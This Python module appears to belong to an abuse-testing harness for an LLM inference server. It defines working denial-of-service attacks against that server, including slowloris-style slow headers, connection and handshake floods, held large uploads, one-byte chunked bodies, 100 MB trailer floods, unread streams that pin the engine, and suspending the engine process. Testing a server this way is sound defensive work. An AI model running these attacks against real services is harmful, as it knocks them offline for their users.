"""Attacks by a client with a valid key, and failures of the engine process caused on the machine.

Each attack is a coroutine that takes the server and returns how often each answer was received.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import signal
import socket
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from typing import Any

import psutil

from abuse.raw_http import COMPLETIONS, HOST, MODEL, answer, ask, connection, request
from abuse.server_process import ABUSER, AttackedServer

Answers = Counter[str]
Attack = Callable[[AttackedServer], Awaitable[Answers]]
Body = bytes | dict[str, Any]


def bodies(*asked: tuple[str, Callable[[], Body]]) -> Attack:
    """Return an attack that sends one request after another; each body is built when it is sent."""

    async def run(server: AttackedServer) -> Answers:
        return Counter([await ask(server.address, path, ABUSER, body()) for path, body in asked])

    return run


def listed(field: str, item: str, count: int) -> Callable[[], Body]:
    """Return a builder of the body ``{"model": "demo", FIELD: [ITEM, ...]}`` with ``count`` items."""
    return lambda: f'{{"model":"{MODEL}","{field}":[{",".join([item] * count)}]}}'.encode()


def text(size: int, **more: Any) -> Callable[[], Body]:
    """Return a builder of a body with a prompt of ``size`` characters."""
    return lambda: {"prompt": "lorem ipsu" * (size // 10)} | more


def matching(kind: str, value: Any, **more: Any) -> Callable[[], Body]:
    """Return a builder of a body that requests a structured output of ``kind``."""
    body = {"prompt": "Answer:", "max_tokens": 200, "stream": True, "structured_outputs": {kind: value}}
    return lambda: body | more


def at_once(count: int, path: str, body: Callable[[], Body]) -> Attack:
    """Return an attack that sends ``count`` equal requests at once."""

    async def run(server: AttackedServer) -> Answers:
        return await counted(ask(server.address, path, ABUSER, body()) for _ in range(count))

    return run


def nested(depth: int, count: int) -> dict[str, Any]:
    """Return a tool whose parameters have ``count`` members, each nested ``depth`` levels deep."""
    value: dict[str, Any] = {}
    for _ in range(depth):
        value = {"a": value}
    parameters = {"type": "object", "properties": {f"p{at}": value for at in range(count)}}
    return {"type": "function", "function": {"name": "f", "parameters": parameters}}


async def resets(server: AttackedServer) -> Answers:
    """Connect 5,000 times, send a request of 1.2 KB and reset the connection."""
    places = asyncio.Semaphore(64)  # connections that are open at the same time
    whole = request(COMPLETIONS, ABUSER, {"prompt": "a" * 1000, "max_tokens": 1})

    async def one() -> str:
        async with places, connection(server.address) as (_, writer):
            writer.write(whole)
            await writer.drain()
        return "reset"

    return await counted(one() for _ in range(5000))


def pages(clients: int, seconds: float, *paths: str) -> Attack:
    """Return an attack in which each client reads one of ``paths`` after another for ``seconds``."""

    async def read(server: AttackedServer, number: int) -> str:
        async with connection(server.address) as (reader, writer):
            writer.write(request(paths[number % len(paths)], ABUSER, extra="Connection: close\r\n"))
            return (await reader.read(-1))[9:12].decode() or "closed"

    return repeated(clients, seconds, read)


async def unread_files(server: AttackedServer) -> Answers:
    """Request the script of /docs on 1,900 connections that read only the first line, for fifteen seconds."""
    places = asyncio.Semaphore(100)  # connections that are opened at the same time

    async def one() -> str:
        async with places:
            reader, writer = await asyncio.open_connection(HOST, server.address.port, limit=1024)
            try:
                writer.write(request("/docs/swagger-ui-bundle.js", ABUSER))
                said = (await reader.readline())[9:12].decode()
            except OSError:
                writer.transport.abort()
                return "closed"
        await asyncio.sleep(15)
        writer.transport.abort()
        return said or "closed"

    return await counted(one() for _ in range(1900))


async def uploads(server: AttackedServer) -> Answers:
    """Hold 32 bodies of 8 MB for five seconds, complete except for the last byte."""
    size = 8_000_000

    async def one() -> str:
        async with connection(server.address) as (reader, writer):
            whole = request(COMPLETIONS, ABUSER, listed("prompt", '"a"', size // 4)())
            writer.write(whole[:-1])
            try:
                async with asyncio.timeout(5):
                    return await answer(reader)
            except TimeoutError:
                return "held"

    return Counter(await asyncio.gather(*(one() for _ in range(32))))


def disconnecting(body: Callable[[], Body], after: float) -> Attack:
    """Return an attack that sends a request and disconnects ``after`` seconds."""

    async def run(server: AttackedServer) -> Answers:
        async with connection(server.address) as (reader, writer):
            writer.write(request(COMPLETIONS, ABUSER, body()))
            try:
                async with asyncio.timeout(after):
                    return Counter([await answer(reader)])
            except TimeoutError:
                return Counter(["hung up"])

    return run


async def deaf(server: AttackedServer) -> Answers:
    """Open eight streams of 16 sequences without reading them, until the server finished or dropped them."""
    body = {"prompt": ["a"] * 16, "max_tokens": 1200, "ignore_eos": True, "stream": True}
    if server.engine != "fake":  # large events, which fill every buffer on the path
        body |= {"max_tokens": 300, "logprobs": 5}
    else:
        body |= {"request_id": "x" * 128}
    sockets = []
    try:
        for _ in range(8):
            sockets.append(socket.socket())
            sockets[-1].setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            address = (HOST, server.address.port)
            await asyncio.get_running_loop().run_in_executor(None, sockets[-1].connect, address)
            sockets[-1].sendall(request(COMPLETIONS, ABUSER, body))
        since = time.monotonic()
        await asyncio.sleep(3)
        answers = Counter(each.recv(12, socket.MSG_PEEK)[9:].decode() for each in sockets)
        while time.monotonic() < since + 150:
            load = await server.page("/load")
            if load is not None and load["sequences"] <= 2:  # only the victim's sequences are left
                answers[f"released after {time.monotonic() - since:.0f} s"] += 1
                return answers
            await asyncio.sleep(0.5)
        answers["not released after 150 s"] += 1
        return answers
    finally:
        for each in sockets:
            each.close()


async def slow_heads(server: AttackedServer) -> Answers:
    """Keep 300 connections alive after one answer, and send one byte of the next request head per second."""

    async def one() -> str:
        async with connection(server.address) as (reader, writer):
            writer.write(request("/health", ABUSER))
            head = await reader.readuntil(b"\r\n\r\n")
            await reader.readexactly(int(head.lower().partition(b"content-length: ")[2].split()[0]))
            writer.write(b"GET /health HTTP/1.1\r\nX-Slow: ")
            for _ in range(40):
                writer.write(b"a")
                try:
                    async with asyncio.timeout(1):
                        await reader.read(1)
                    return "closed"
                except TimeoutError:
                    pass
        return "still open after 40 s"

    return await counted(one() for _ in range(300))


def fields(clients: int, seconds: float, count: int) -> Attack:
    """Return an attack in which each client sends one head with ``count`` empty fields after another."""

    async def send(server: AttackedServer, _: int) -> str:
        extra = "".join(f"a{at}:\r\n" for at in range(count)) + "Connection: close\r\n"
        async with connection(server.address) as (reader, writer):
            writer.write(request("/v1/models", ABUSER, extra=extra))
            return await answer(reader)

    return repeated(clients, seconds, send)


def pipeline(clients: int, seconds: float, count: int) -> Attack:
    """Return an attack in which each client sends ``count`` requests at once and resets the connection."""

    async def send(server: AttackedServer, _: int) -> str:
        async with connection(server.address) as (reader, writer):
            writer.write(request("/openapi.json", ABUSER) * count)
            await reader.readexactly(100)
            writer.transport.abort()
            return "reset"

    return repeated(clients, seconds, send)


def chunks(clients: int, seconds: float, size: int) -> Attack:
    """Return an attack in which each client sends bodies of ``size`` bytes in chunks of one byte."""

    async def send(server: AttackedServer, _: int) -> str:
        body = json.dumps({"model": MODEL, "prompt": "a" * size, "max_tokens": 1}).encode()
        head = request(COMPLETIONS, ABUSER, extra="Transfer-Encoding: chunked\r\nConnection: close\r\n")
        async with connection(server.address) as (reader, writer):
            writer.write(head.replace(b"GET", b"POST", 1))
            writer.write(b"".join(b"1\r\n%c\r\n" % byte for byte in body) + b"0\r\n\r\n")
            return await answer(reader)

    return repeated(clients, seconds, send)


async def trailers(server: AttackedServer) -> Answers:
    """Send 100 MB of trailer fields after a chunked body, on two connections."""
    part = b"".join(f"x-{at:06d}: {'a' * 90}\r\n".encode() for at in range(10_000))

    async def one() -> str:
        async with connection(server.address) as (reader, writer):
            writer.write(
                f"POST {COMPLETIONS} HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer {ABUSER}\r\nContent-Type: "
                "application/json\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n".encode()
            )
            said = asyncio.create_task(answer(reader))
            for _ in range(100):
                if said.done():
                    break
                writer.write(part)
                await writer.drain()
            writer.write(b"\r\n")
            return await said

    return await counted(one() for _ in range(2))


async def connections(server: AttackedServer) -> Answers:
    """Hold 4,000 connections for fifteen seconds, with nothing or a part of a request head sent."""
    places = asyncio.Semaphore(200)  # connections that are opened at the same time

    async def one(number: int) -> str:
        async with places:
            reader, writer = await asyncio.open_connection(HOST, server.address.port)
        try:
            writer.write(b"GET /health"[: 7 * (number % 2)])
            async with asyncio.timeout(15):
                return "closed" if not await reader.read(1 << 16) else "answered"
        except TimeoutError:
            return "held"
        finally:
            writer.transport.abort()

    return await counted(one(number) for number in range(4000))


async def handshakes(server: AttackedServer) -> Answers:
    """Open 1,100 connections and send nothing, for fifteen seconds."""

    async def one() -> str:
        reader, writer = await asyncio.open_connection(HOST, server.address.port)
        try:
            async with asyncio.timeout(15):
                return "closed" if not await reader.read(1) else "answered"
        except TimeoutError:
            return "held"
        finally:
            writer.transport.abort()

    return await counted(one() for _ in range(1100))


async def counted(tasks: Any) -> Answers:
    """Return how often each task's result occurred; a lost connection counts as "closed"."""
    found = await asyncio.gather(*tasks, return_exceptions=True)
    for each in found:
        if isinstance(each, BaseException) and not isinstance(each, OSError | asyncio.IncompleteReadError):
            raise each
    return Counter("closed" if isinstance(each, BaseException) else each for each in found)


async def engine_stopped(server: AttackedServer) -> Answers:
    """Stop the engine process with SIGSTOP and wait until a new one is ready."""
    process = server.largest_child()
    assert process is not None
    process.suspend()
    try:
        return await _back(server, process)
    finally:
        _go_on(process)


async def load_stopped(server: AttackedServer) -> Answers:
    """Kill the engine process, stop its successor with SIGSTOP while it loads, and wait until one is ready."""
    before, first = server.children(), server.largest_child()
    assert first is not None
    first.kill()
    while True:
        process = server.largest_child(besides=before)
        await asyncio.sleep(1)
        if process is not None and process.is_running():
            break
    process.suspend()
    try:
        return await _back(server, process)
    finally:
        _go_on(process)


async def _back(server: AttackedServer, stopped: psutil.Process) -> Answers:
    since = time.monotonic()
    while stopped.is_running() and not _is_stopped(stopped):  # noqa: ASYNC110  # the signal is on its way
        await asyncio.sleep(0.01)
    while _is_stopped(stopped) or not await server.ready():  # noqa: ASYNC110
        await asyncio.sleep(0.2)
    return Counter([f"ready again after {time.monotonic() - since:.0f} s"])


def _is_stopped(process: psutil.Process) -> bool:
    with contextlib.suppress(psutil.NoSuchProcess):
        return process.status() == psutil.STATUS_STOPPED
    return False


def _go_on(process: psutil.Process) -> None:
    with contextlib.suppress(psutil.NoSuchProcess):
        process.send_signal(signal.SIGCONT)


def repeated(clients: int, seconds: float, once: Callable[[AttackedServer, int], Awaitable[str]]) -> Attack:
    """Return an attack in which each client calls ``once`` with its number again and again, for ``seconds``."""

    async def run(server: AttackedServer) -> Answers:
        answers: Answers = Counter()

        async def client(number: int) -> None:
            while True:
                answers[await once(server, number)] += 1

        tasks = [asyncio.create_task(client(number)) for number in range(clients)]
        await asyncio.sleep(seconds)
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
        return answers

    return run


def flood(clients: int, seconds: float, body: dict[str, Any], path: str = COMPLETIONS) -> Attack:
    """Return an attack in which each client sends one request after another, and disconnects at the end."""
    return repeated(clients, seconds, lambda server, _: ask(server.address, path, ABUSER, body))


async def idle(seconds: float) -> Answers:
    """Send nothing for ``seconds``."""
    await asyncio.sleep(seconds)
    return Counter()
